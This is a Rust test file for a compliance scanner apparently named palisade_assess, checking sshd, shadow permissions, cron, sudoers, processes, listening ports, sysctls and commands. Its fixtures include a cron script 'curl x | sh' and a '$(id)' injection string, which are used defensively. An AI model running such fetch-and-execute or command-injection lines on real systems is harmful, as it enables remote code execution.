//! Every rule type, on file trees generated per test: pass, fail and not applicable, with
//! the evidence a user reads.

mod common;

use common::write;
use palisade_assess::{Policy, Status, Target};
use std::collections::BTreeMap;
use std::path::Path;

/// Runs a policy made of one check with the given rules (YAML list items, indented by 6)
/// against `root` and returns the status and the evidence texts.
pub fn status(root: &Path, condition: &str, rules: &str) -> (Status, Vec<String>) {
    let yaml = format!(
        "policy: {{id: t, title: T}}\nchecks:\n  - id: c\n    title: C\n    ccm: [IVS-04]\n    condition: {condition}\n    rules:\n{rules}"
    );
    let policy = Policy::parse(&yaml, &BTreeMap::new()).unwrap_or_else(|e| panic!("{e}\n{yaml}"));
    let results = palisade_assess::run(&[policy], &Target::new(root));
    let r = &results[0];
    let evidence = r
        .evidence
        .iter()
        .map(|e| {
            format!(
                "{}:{}: {}",
                e.source.clone().unwrap_or_default(),
                e.line.unwrap_or(0),
                e.text
            )
        })
        .collect();
    (r.status, evidence)
}

const SSHD: &str = "      - file: /etc/ssh/sshd_config\n        line: '(?i)^\\s*PermitRootLogin\\s+(\\S+)'\n        is: [\"no\"]\n";

#[test]
fn file_line_passes_fails_and_is_not_applicable() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path();
    assert_eq!(status(root, "all", SSHD).0, Status::NotApplicable);
    write(
        root,
        "etc/ssh/sshd_config",
        "# PermitRootLogin no\nPermitRootLogin yes\n",
        0o644,
    );
    let (s, ev) = status(root, "all", SSHD);
    assert_eq!(s, Status::Fail);
    assert!(
        ev.iter()
            .any(|e| e == "/etc/ssh/sshd_config:2: PermitRootLogin yes"),
        "{ev:?}"
    );
    write(root, "etc/ssh/sshd_config", "PermitRootLogin no\n", 0o644);
    assert_eq!(status(root, "all", SSHD).0, Status::Pass);
}

#[test]
fn numeric_comparison_of_a_captured_value() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path();
    let rule = "      - file: /etc/login.defs\n        line: '^PASS_MAX_DAYS\\s+(\\d+)'\n        compare: '<= 90'\n";
    assert_eq!(status(root, "all", rule).0, Status::NotApplicable);
    write(root, "etc/login.defs", "PASS_MAX_DAYS 99999\n", 0o644);
    assert_eq!(status(root, "all", rule).0, Status::Fail);
    write(root, "etc/login.defs", "PASS_MAX_DAYS 60\n", 0o644);
    assert_eq!(status(root, "all", rule).0, Status::Pass);
}

#[test]
fn file_attributes_mode_owner_and_existence() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path();
    let me = std::fs::metadata(root)
        .map(|m| std::os::unix::fs::MetadataExt::uid(&m))
        .unwrap();
    let rule =
        format!("      - file: /etc/shadow\n        mode_max: '0640'\n        owner: {me}\n");
    assert_eq!(status(root, "all", &rule).0, Status::NotApplicable);
    write(root, "etc/shadow", "root:!:1::::::\n", 0o644);
    let (s, ev) = status(root, "all", &rule);
    assert_eq!(s, Status::Fail);
    assert!(
        ev.iter()
            .any(|e| e.contains("/etc/shadow") && e.contains("mode 0644")),
        "{ev:?}"
    );
    write(root, "etc/shadow", "root:!:1::::::\n", 0o640);
    assert_eq!(status(root, "all", &rule).0, Status::Pass);
    let wrong_owner = "      - file: /etc/shadow\n        owner: [4242]\n";
    assert_eq!(status(root, "all", wrong_owner).0, Status::Fail);

    let absent = "      - file: /etc/hosts.equiv\n        exists: false\n";
    assert_eq!(status(root, "all", absent).0, Status::Pass);
    write(root, "etc/hosts.equiv", "+\n", 0o644);
    assert_eq!(status(root, "all", absent).0, Status::Fail);
    let present = "      - file: /etc/motd\n        exists: true\n";
    assert_eq!(status(root, "all", present).0, Status::Fail);
}

#[test]
fn globs_cover_every_matching_file() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path();
    let rule = "      - file: /etc/ssh/ssh_host_*_key\n        mode_max: '0600'\n";
    assert_eq!(status(root, "all", rule).0, Status::NotApplicable);
    write(root, "etc/ssh/ssh_host_ed25519_key", "k", 0o600);
    write(root, "etc/ssh/ssh_host_ed25519_key.pub", "p", 0o644);
    assert_eq!(status(root, "all", rule).0, Status::Pass);
    write(root, "etc/ssh/ssh_host_rsa_key", "k", 0o644);
    assert_eq!(status(root, "all", rule).0, Status::Fail);
}

#[test]
fn directory_entries_and_contents() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path();
    let entries = "      - dir: /etc/cron.d\n        no_entry: '\\.(?:sh|bak)$'\n";
    assert_eq!(status(root, "all", entries).0, Status::NotApplicable);
    write(
        root,
        "etc/cron.d/backup",
        "0 1 * * * root /usr/bin/backup\n",
        0o644,
    );
    assert_eq!(status(root, "all", entries).0, Status::Pass);
    write(root, "etc/cron.d/evil.sh", "curl x | sh\n", 0o644);
    let (s, ev) = status(root, "all", entries);
    assert_eq!(s, Status::Fail);
    assert!(
        ev.iter().any(|e| e.contains("/etc/cron.d/evil.sh")),
        "{ev:?}"
    );

    let contents = "      - dir: /etc/sudoers.d\n        no_line: 'NOPASSWD:'\n";
    write(root, "etc/sudoers.d/ops", "%ops ALL=(ALL) ALL\n", 0o440);
    assert_eq!(status(root, "all", contents).0, Status::Pass);
    write(
        root,
        "etc/sudoers.d/ci",
        "# fine\nci ALL=(ALL) NOPASSWD: ALL\n",
        0o440,
    );
    let (s, ev) = status(root, "all", contents);
    assert_eq!(s, Status::Fail);
    assert!(
        ev.iter()
            .any(|e| e == "/etc/sudoers.d/ci:2: ci ALL=(ALL) NOPASSWD: ALL"),
        "{ev:?}"
    );
}

#[test]
fn processes_from_the_targets_proc() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path();
    let rule = "      - process: '(^|/)in\\.telnetd'\n        running: false\n";
    assert_eq!(status(root, "all", rule).0, Status::NotApplicable);
    write(root, "proc/1/cmdline", "/sbin/init\0", 0o444);
    assert_eq!(status(root, "all", rule).0, Status::Pass);
    write(root, "proc/77/cmdline", "/usr/sbin/in.telnetd\0-L\0", 0o444);
    let (s, ev) = status(root, "all", rule);
    assert_eq!(s, Status::Fail);
    assert!(
        ev.iter()
            .any(|e| e.contains("pid 77: /usr/sbin/in.telnetd -L")),
        "{ev:?}"
    );
}

const TCP_HEADER: &str = "  sl  local_address rem_address   st tx_queue rx_queue tr tm->when retrnsmt   uid  timeout inode\n";

#[test]
fn listening_ports_from_the_targets_proc_net() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path();
    let rule = "      - port: 23\n        listening: false\n";
    assert_eq!(status(root, "all", rule).0, Status::NotApplicable);
    // 0.0.0.0:22 listening, 10.0.0.1:23 -> established (not listening).
    let table = format!(
        "{TCP_HEADER}   0: 00000000:0016 00000000:0000 0A 0 0 0 0 0 0 1\n   1: 0100000A:0017 0200000A:C000 01 0 0 0 0 0 0 2\n"
    );
    write(root, "proc/net/tcp", &table, 0o444);
    assert_eq!(status(root, "all", rule).0, Status::Pass);
    write(root, "proc/net/tcp6", &format!("{TCP_HEADER}   0: 00000000000000000000000000000000:0017 00000000000000000000000000000000:0000 0A 0 0 0 0 0 0 3\n"), 0o444);
    let (s, ev) = status(root, "all", rule);
    assert_eq!(s, Status::Fail);
    assert!(
        ev.iter().any(|e| e.contains("listening on tcp [::]:23")),
        "{ev:?}"
    );

    let public_only = "      - port: 6379\n        listening: false\n        public: true\n";
    write(root, "proc/net/tcp6", TCP_HEADER, 0o444);
    write(
        root,
        "proc/net/tcp",
        &format!("{TCP_HEADER}   0: 0100007F:18EB 00000000:0000 0A 0\n"),
        0o444,
    );
    assert_eq!(status(root, "all", public_only).0, Status::Pass);
    write(
        root,
        "proc/net/tcp",
        &format!("{TCP_HEADER}   0: 00000000:18EB 00000000:0000 0A 0\n"),
        0o444,
    );
    assert_eq!(status(root, "all", public_only).0, Status::Fail);

    let udp = "      - port: 69\n        proto: udp\n        listening: false\n";
    write(
        root,
        "proc/net/udp",
        &format!("{TCP_HEADER}   0: 00000000:0045 00000000:0000 07 0\n"),
        0o444,
    );
    assert_eq!(status(root, "all", udp).0, Status::Fail);
}

#[test]
fn kernel_parameters_from_the_targets_proc_sys() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path();
    let rule = "      - sysctl: net.ipv4.ip_forward\n        is: [0]\n";
    assert_eq!(status(root, "all", rule).0, Status::NotApplicable);
    write(root, "proc/sys/net/ipv4/ip_forward", "1\n", 0o444);
    let (s, ev) = status(root, "all", rule);
    assert_eq!(s, Status::Fail);
    assert!(
        ev.iter().any(|e| e.contains("net.ipv4.ip_forward = 1")),
        "{ev:?}"
    );
    write(root, "proc/sys/net/ipv4/ip_forward", "0\n", 0o444);
    assert_eq!(status(root, "all", rule).0, Status::Pass);
    let cmp = "      - sysctl: kernel.perf_event_paranoid\n        compare: '>= 2'\n";
    write(root, "proc/sys/kernel/perf_event_paranoid", "1\n", 0o444);
    assert_eq!(status(root, "all", cmp).0, Status::Fail);
}

#[test]
fn commands_run_on_the_host_only_without_a_shell() {
    let dir = tempfile::tempdir().unwrap();
    let host = std::path::Path::new("/");
    let echo = "      - command: [echo, 'PermitRootLogin no; $(id)']\n        line: '^PermitRootLogin (\\S+);'\n        is: ['no']\n";
    let (s, ev) = status(host, "all", echo);
    assert_eq!(s, Status::Pass);
    assert!(
        ev.iter().any(|e| e.contains("$(id)")),
        "no shell expanded the argument: {ev:?}"
    );
    assert_eq!(status(dir.path(), "all", echo).0, Status::NotApplicable);
    let exit = "      - command: ['false']\n        exit: 0\n";
    assert_eq!(status(host, "all", exit).0, Status::Fail);
    let missing = "      - command: [no-such-program-palisade]\n        exit: 0\n";
    assert_eq!(status(host, "all", missing).0, Status::NotApplicable);
    let slow = "      - command: [sleep, '5']\n        timeout: 1\n        exit: 0\n";
    let started = std::time::Instant::now();
    let (s, _) = status(host, "all", slow);
    assert_eq!(s, Status::Error);
    assert!(started.elapsed() < std::time::Duration::from_secs(4));
}

#[test]
fn conditions_combine_applicable_rules() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path();
    write(root, "etc/a", "x = 1\n", 0o644);
    let holds = "      - file: /etc/a\n        line: '^x = 1'\n";
    let fails = "      - file: /etc/a\n        line: '^y'\n";
    let absent = "      - file: /etc/missing\n        line: '^y'\n";
    assert_eq!(
        status(root, "all", &format!("{holds}{absent}")).0,
        Status::Pass
    );
    assert_eq!(
        status(root, "all", &format!("{holds}{fails}")).0,
        Status::Fail
    );
    assert_eq!(
        status(root, "any", &format!("{fails}{holds}")).0,
        Status::Pass
    );
    assert_eq!(
        status(root, "any", &format!("{fails}{absent}")).0,
        Status::Fail
    );
    assert_eq!(
        status(root, "none", &format!("{fails}{absent}")).0,
        Status::Pass
    );
    assert_eq!(
        status(root, "none", &format!("{fails}{holds}")).0,
        Status::Fail
    );
    assert_eq!(status(root, "all", absent).0, Status::NotApplicable);
}

#[test]
fn policy_requirements_make_every_check_not_applicable() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path();
    let yaml = "policy: {id: p, title: P}\nrequirements:\n  rules:\n    - file: /etc/nginx/nginx.conf\n      exists: true\nchecks:\n  - id: a\n    title: A\n    rules:\n      - file: /etc/passwd\n        exists: true\n";
    let p = palisade_assess::Policy::parse(yaml, &Default::default()).unwrap();
    let r = palisade_assess::run(
        std::slice::from_ref(&p),
        &palisade_assess::Target::new(root),
    );
    assert_eq!(r[0].status, Status::NotApplicable);
    assert!(r[0].reason.contains("requirements"), "{}", r[0].reason);
    write(root, "etc/nginx/nginx.conf", "user www-data;\n", 0o644);
    let r = palisade_assess::run(&[p], &palisade_assess::Target::new(root));
    assert_eq!(r[0].status, Status::Fail);
}
